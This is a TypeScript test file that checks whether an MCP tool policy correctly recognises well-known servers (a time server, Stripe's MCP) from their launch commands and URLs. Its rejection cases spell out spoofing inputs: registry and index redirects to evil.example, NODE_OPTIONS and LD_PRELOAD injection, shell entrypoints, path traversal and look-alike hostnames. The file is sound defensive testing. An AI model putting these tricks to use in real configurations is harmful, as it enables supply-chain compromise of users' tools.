import { describe, expect, it } from "vitest";
import { serverIdentity } from "../../../src/hub/create/server-identity.ts";
import { ServerEntrySchema, type ServerEntryInput, type ServerSpec } from "../../../src/model/server-spec.ts";
import { findKnownTool } from "../../../src/policy/well-known-servers.ts";

function spec(entry: ServerEntryInput, more: Partial<ServerSpec> = {}): ServerSpec {
  const origin = { file: "/home/ann/toolcrib.json", dialect: "toolcrib" };
  return { ...ServerEntrySchema.parse(entry), id: "it", baseDir: "/", origin, ...more };
}

const run = (line: string, env: Record<string, string> = {}): ServerEntryInput => {
  const [command, ...args] = line.split(" ");
  return { command, args, env };
};

const time = "get_current_time";
const stripe = "retrieve_balance";

describe("[guard-20f] a well-known server", () => {
  it.each<[line: string, tool: string]>([
    ["uvx mcp-server-time", time],
    ["uvx -q mcp-server-time@latest --local-timezone Europe/Berlin", time],
    ["uvx --from mcp-server-time==1.2.3 mcp-server-time", time],
    ["/opt/homebrew/bin/uvx mcp-server-time", time],
    ["uv tool run mcp-server-time", time],
    ["pipx run mcp-server-time", time],
    ["npx -y @stripe/mcp --tools=all --registry=of-the-server", stripe],
    ["npx @stripe/mcp@0.2.1", stripe],
    ["cmd /c npx -y @stripe/mcp@latest", stripe],
    ["npm exec -y -- @stripe/mcp --tools=all", stripe],
    ["pnpm dlx @stripe/mcp", stripe],
    ["bunx @stripe/mcp", stripe],
    ["node /srv/node_modules/@stripe/mcp/dist/index.js", stripe],
    ["docker run -i --rm mcp/time", time],
    [
      "docker run -i --rm -e TZ=UTC --label some/thing --mount type=bind,src=/a,dst=/projects/a mcp/time:latest x",
      time,
    ],
    ["podman run --rm -it --name=mcp/git mcp/time", time],
    ["npx -y mcp-remote https://mcp.stripe.com/", stripe],
  ])("is recognised in %s", (line, tool) => {
    expect(findKnownTool(serverIdentity(spec(run(line)), null), tool)).toMatchObject({ isSure: true });
  });

  it.each<[line: string, tool: string, env?: Record<string, string>]>([
    ["./mcp-server-time", time],
    ["/usr/bin/mcp-server-time", time],
    ["mcp-server-time", time],
    ["python -m mcp_server_time", time],
    ["./uvx mcp-server-time", time],
    ["/tmp/bin/uvx mcp-server-time", time],
    ["npx -y mcp-server-time", time],
    ["uvx --index-url https://evil.example mcp-server-time", time],
    ["uvx --index=https://evil.example mcp-server-time", time],
    ["uvx --with evil mcp-server-time", time],
    ["uvx --from evil mcp-server-time", time],
    ["uvx --from mcp-server-time evil", time],
    ["uvx --python /tmp/python mcp-server-time", time],
    ["uvx mcp-server-time@../evil", time],
    ["uvx mcp-server-time", time, { UV_INDEX_URL: "https://evil.example" }],
    ["npx --registry=https://evil.example -y @stripe/mcp", stripe],
    ["npx -y --registry https://evil.example @stripe/mcp", stripe],
    ["npx -p @stripe/mcp -p evil evil-bin", stripe],
    ["npx -p @stripe/mcp sh", stripe],
    ["npx --prefix /tmp/evil @stripe/mcp", stripe],
    ["npx @stripe/mcp@npm:evil", stripe],
    ["npx @stripe/mcp@..", stripe],
    ["npx @stripe/mcp@evil.tgz", stripe],
    ["npx @stripe/mcp", stripe, { npm_config_registry: "https://evil.example" }],
    ["npx @stripe/mcp", stripe, { NODE_OPTIONS: "--import=/tmp/evil.mjs" }],
    ["npm exec @stripe/mcp --registry=https://evil.example", stripe],
    ["uvx @stripe/mcp", stripe],
    ["node --import=/tmp/evil.mjs /srv/node_modules/@stripe/mcp/dist/index.js", stripe],
    ["node /srv/node_modules/@stripe/mcp/../../../evil.js", stripe],
    ["node node_modules/@stripe/mcp/index.js", stripe],
    ["node /srv/node_modules/@stripe/mcp/node_modules/evil/index.js", stripe],
    ["docker run --label mcp/time evil/img", time],
    ["docker run evil/img mcp/time", time],
    ["docker run --entrypoint sh mcp/time", time],
    ["docker run -v /tmp/evil:/app mcp/time", time],
    ["docker run -v /tmp/evil:/projects/../app mcp/time", time],
    ["docker run -e LD_PRELOAD=/projects/evil.so mcp/time", time],
    ["docker run mcp/time", time, { DOCKER_HOST: "tcp://evil.example" }],
    ["docker --host evil run mcp/time", time],
    ["./mcp-remote https://mcp.stripe.com/", stripe],
    ["uvx mcp-remote https://mcp.stripe.com/", stripe],
    ["npx mcp-remote http://mcp.stripe.com/", stripe],
    ["npx mcp-remote https://evil.example/ https://mcp.stripe.com/", stripe],
  ])("is not believed to be what %s starts", (line, tool, env) => {
    expect(findKnownTool(serverIdentity(spec(run(line, env)), null), tool)?.isSure ?? false).toBe(false);
  });

  it("makes a tool riskier where the entry only has its name", () => {
    for (const line of ["./mcp-server-fetch", "npx mcp-server-fetch", "docker run -v /x:/app mcp/fetch"]) {
      const known = findKnownTool(serverIdentity(spec(run(line)), null), "fetch");
      expect([line, known]).toEqual([line, { effects: new Set(["fetches"]), isSure: false }]);
    }
  });

  it("is recognised by the host of its maker, over TLS", () => {
    const isSure = (url: string): boolean | undefined =>
      findKnownTool(serverIdentity(spec({ url }), "Stripe"), stripe)?.isSure;
    expect(isSure("https://mcp.stripe.com/mcp")).toBe(true);
    expect(isSure("http://mcp.stripe.com/mcp")).toBe(false);
    expect(isSure("https://mcp.stripe.com@evil.example/mcp")).toBe(false);
    expect(isSure("https://mcp.stripe.com.evil.example/mcp")).toBe(false);
  });

  it.each<[whose: string, more: Partial<ServerSpec>]>([
    ["a project", { fromProject: true }],
    ["an installed skill", { skill: "clock" }],
    ["a skill that starts it", { origin: { file: "/skills/clock/SKILL.md", dialect: "skill" } }],
    ["a session", { origin: { file: "session", dialect: "acp" } }],
  ])("is not believed in an entry of %s", (_whose, more) => {
    for (const [entry, tool] of [
      [run("uvx mcp-server-time"), time],
      [run("node /srv/node_modules/@stripe/mcp/index.js"), stripe],
      [{ url: "https://mcp.stripe.com/mcp" }, stripe],
    ] as const) {
      expect(findKnownTool(serverIdentity(spec(entry, more), null), tool)).toMatchObject({ isSure: false });
    }
  });
});
